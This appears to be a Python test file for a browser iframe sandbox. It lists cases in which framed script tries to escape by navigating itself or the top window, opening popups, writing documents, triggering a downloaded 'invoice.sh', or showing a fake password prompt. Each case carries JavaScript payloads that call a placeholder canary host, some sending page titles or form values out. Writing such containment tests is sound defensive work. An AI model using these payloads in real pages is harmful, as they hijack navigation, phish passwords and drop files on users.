"""Attacks that go somewhere: the frame itself, the app around it, a new window, a file."""

from tests.browser.wall.case import Case, Line, Sign

CLICK = "document.getElementById('$ID').click();"


def leave(name, must_not, script="", body="", **rest):
    """The frame goes to the canary by itself, which CSP alone does not stop."""
    return Case(name, Line.SELF_NAVIGATION, must_not, script, body, alone=True, **rest)


def take(name, must_not, script="", body="", sign=Sign.MOVED, **rest):
    return Case(name, Line.TOP_NAVIGATION, must_not, script, body, sign, alone=True, **rest)


def pop(name, must_not, script="", body="", **rest):
    return Case(name, Line.POPUPS, must_not, script, body, Sign.MOVED, alone=True, **rest)


CASES = (
    leave("self-location", "leave by location", "location = '$URL/a.html';"),
    leave("self-replace", "leave by location.replace", "location.replace('$URL/a.html');"),
    leave(
        "self-meta",
        "leave by meta refresh",
        body="<meta http-equiv=refresh content='0;url=$URL/a.html'>",
    ),
    leave(
        "self-meta-late",
        "leave by a meta refresh made by script",
        """
        const meta = document.createElement('meta');
        meta.httpEquiv = 'refresh';
        meta.content = '0;url=$URL/a.html?' + encodeURIComponent(document.title);
        document.head.append(meta);
        """,
    ),
    leave("self-link", "leave by a link", CLICK, "<a id=$ID href='$URL/a.html'>go</a>"),
    leave(
        "self-form",
        "leave by a form",
        "document.getElementById('$ID').submit();",
        "<form id=$ID action='$URL/a.html'><input name=q value=secret></form>",
    ),
    leave(
        "self-form-post",
        "leave by a form that posts",
        "document.getElementById('$ID').requestSubmit();",
        "<form id=$ID method=post action='$URL/a.html'><input name=q value=secret></form>",
    ),
    leave(
        "self-navigation-api",
        "leave by the navigation API",
        "navigation.navigate('$URL/a.html');",
    ),
    leave(
        "self-data",
        "go to a data: document that calls out",
        """location = 'data:text/html,<img src="$URL/a.png"><script>fetch("$URL/b")</scr' + 'ipt>';""",
    ),
    leave(
        "self-blob",
        "go to a blob: document that calls out",
        """
        const page = '<img src="$URL/a.png"><script>fetch("$URL/b")</scr' + 'ipt>';
        location = URL.createObjectURL(new Blob([page], { type: 'text/html' }));
        """,
    ),
    leave(
        "self-javascript",
        "go to a javascript: document that calls out",
        """location = 'javascript:"<img src=$URL/a.png>"';""",
    ),
    leave(
        "self-write",
        "write a new document that calls out",
        """
        document.open();
        document.write('<img src="$URL/a.png"><script>fetch("$URL/b")</scr' + 'ipt>');
        document.close();
        """,
    ),
    leave(
        "self-svg-link",
        "leave by a link in a drawing",
        "document.getElementById('$ID').dispatchEvent(new MouseEvent('click'));",
        "<svg><a id=$ID href='$URL/a.html'><text y=20>go</text></a></svg>",
    ),
    leave(
        "self-base",
        "bend its own links elsewhere",
        CLICK,
        "<base href='$URL/'><a id=$ID href='relative.html'>go</a>",
    ),
    leave(
        "self-ping",
        "report a click by ping",
        CLICK + "await wait(300);",
        "<a id=$ID href='#here' ping='$URL/ping'>go</a>",
        cannot_show={"firefox": "pings are switched off there"},
    ),
    leave(
        "self-app",
        "load the app inside itself",
        "location = '$APP/'; await wait(800);",
        sign=Sign.LEAK,
        unguarded="<iframe src='/inside' onload='inside(this)'></iframe>",
        cannot_show={
            "chromium": "the control's page lets itself be framed, and shows it another way",
            "firefox": "the control's page lets itself be framed, and shows it another way",
        },
    ),
    take("top-location", "send the app elsewhere", "top.location = '$URL/a.html';"),
    take(
        "top-link",
        "send the app elsewhere by a link",
        CLICK,
        "<a id=$ID target=_top href='$URL/a.html'>go</a>",
    ),
    take(
        "top-form",
        "send the app elsewhere by a form",
        "document.getElementById('$ID').submit();",
        "<form id=$ID target=_top action='$URL/a.html'></form>",
    ),
    take("top-open", "send the app elsewhere by open", "window.open('$URL/a.html', '_top');"),
    take(
        "top-javascript",
        "run script in the app by its address",
        "top.location = 'javascript:document.body.append(new Image().src=`$URL/a.png`)';",
        sign=Sign.CANARY,
    ),
    take(
        "top-base-target",
        "bend all links to the app's window",
        CLICK,
        "<base target=_top><a id=$ID href='$URL/a.html'>go</a>",
    ),
    take("top-hash", "change the app's address", "top.location.hash = 'taken';"),
    pop("popup", "open a window", "window.open('$URL/a.html'); await wait(300);"),
    pop(
        "popup-link",
        "open a window by a link",
        CLICK,
        "<a id=$ID target=_blank href='$URL/a.html'>go</a>",
    ),
    pop(
        "popup-form",
        "open a window by a form",
        "document.getElementById('$ID').submit();",
        "<form id=$ID target=_blank action='$URL/a.html'></form>",
    ),
    pop(
        "popup-blank",
        "open an empty window and write into it",
        "const opened = window.open(); opened.document.write('<img src=$URL/a.png>');",
    ),
    pop(
        "download",
        "put a file on the person's disk",
        """
        const link = document.createElement('a');
        link.href = URL.createObjectURL(new Blob(['x'], { type: 'application/x-sh' }));
        link.download = 'invoice.sh';
        document.body.append(link);
        link.click();
        """,
    ),
    pop("alert", "stop the page with a dialog", "alert('Your session has ended');"),
    pop(
        "prompt",
        "ask for a password in the browser's own dialog",
        "const word = prompt('Password?'); if (word !== null) await fetch('$URL/p');",
    ),
)
